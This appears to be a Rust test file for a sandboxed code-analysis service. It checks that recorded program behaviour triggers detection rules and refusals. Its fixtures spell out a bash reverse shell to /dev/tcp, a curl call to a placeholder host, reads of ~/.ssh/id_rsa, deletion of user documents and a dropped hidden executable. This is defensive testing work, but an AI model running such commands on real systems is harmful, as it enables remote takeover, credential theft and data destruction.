//! Verdicts on acts made by hand, and what they make of a report.

use super::*;
use crate::detonation::join::join;
use casemate_analysis::{Report, SourceFile, Submission};
use casemate_types::Status;
use casemate_types::analysis::Risk;
use std::time::Duration;

fn witnessed(acts: Vec<Act>) -> Witnessed {
    let first = Act::Exec {
        path: b"/usr/bin/python3".to_vec(),
        argv: vec![b"python3".to_vec()],
    };
    let records: Vec<Record> = [first]
        .into_iter()
        .chain(acts)
        .map(|act| Record { pid: 2, act })
        .collect();
    Witnessed {
        status: Status::Succeeded,
        ran: Duration::ZERO,
        acts: records.len() as u64,
        records,
        lost_bytes: 0,
        output: Vec::new(),
        files: Vec::new(),
    }
}

fn open(path: &str, flags: u64) -> Act {
    Act::Open {
        path: path.into(),
        flags,
    }
}

fn exec(path: &str, words: &[&str]) -> Act {
    Act::Exec {
        path: path.into(),
        argv: words.iter().map(|word| word.as_bytes().to_vec()).collect(),
    }
}

fn check(source: &str, acts: Vec<Act>, rules: &[&str], refused: bool) {
    let submission = Submission {
        files: vec![SourceFile {
            path: "main.py".into(),
            language: None,
            bytes: source.into(),
        }],
    };
    let mut report = Report {
        risk: Risk {
            score: 0.02,
            capability: 0.0,
            intent: 0.0,
            weakness: 0.0,
            reasons: Vec::new(),
        },
        findings: Vec::new(),
        flows: Vec::new(),
        vulnerabilities: Vec::new(),
        limits_reached: Vec::new(),
        files: 1,
        lines: 1,
    };
    join(&mut report, &submission, &witnessed(acts));
    let found: Vec<&str> = report
        .findings
        .iter()
        .map(|finding| finding.rule.as_str())
        .collect();
    assert_eq!(found, rules);
    let is_refused = report.risk.score >= crate::admission::MAX_ALLOWED_RISK;
    assert_eq!(is_refused, refused, "{:?}", report.risk);
    assert!(report.risk.score >= 0.02);
}

#[test]
fn what_every_program_does_is_nothing() {
    let acts = vec![
        open("/usr/lib/python3/os.py", 0),
        open("/workspace/project/data.csv", 0),
        open("/workspace/project/out.txt", 0o101),
        open("/tmp/x", 0o101),
        exec("/usr/bin/make", &["make"]),
        exec("/usr/bin/uname", &["uname"]),
        Act::Remove {
            path: "/tmp/x".into(),
        },
    ];
    check("", acts, &[], false);
}

#[test]
fn an_act_counts_by_whether_the_source_shows_it() {
    let curl = || vec![exec("/usr/bin/curl", &["curl", "http://x.test"])];
    check("run(['curl', url])", curl(), &["dynamic.network-tool"], false);
    check(
        "run([decode(name), url])",
        curl(),
        &["dynamic.network-tool"],
        true,
    );
    let key = || vec![open("/workspace/home/.ssh/../.ssh/id_rsa", 0)];
    check("open(a + b)", key(), &["dynamic.credential-read"], true);
    check(
        "open('~/.ssh/id_rsa')",
        key(),
        &["dynamic.credential-read"],
        false,
    );
}

#[test]
fn harm_is_refused_also_where_it_is_shown() {
    let shell = vec![exec("/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/h/1 0>&1"])];
    check("", shell, &["dynamic.reverse-shell"], true);
    let lost = ["report.docx", "budget.xlsx", "notes.txt"];
    let lost = lost.map(|name| Act::Remove {
        path: format!("/workspace/home/Documents/{name}").into(),
    });
    check("", lost.into(), &["dynamic.destruction"], true);
    let dropped = vec![open("/tmp/.x", 0o101), exec("/tmp/.x", &["/tmp/.x"])];
    check("", dropped, &["dynamic.dropped-program"], true);
    let sent = Act::Send {
        address: Vec::new(),
        bytes: MARK.into(),
    };
    check("", vec![sent], &["dynamic.secret-sent"], true);
}
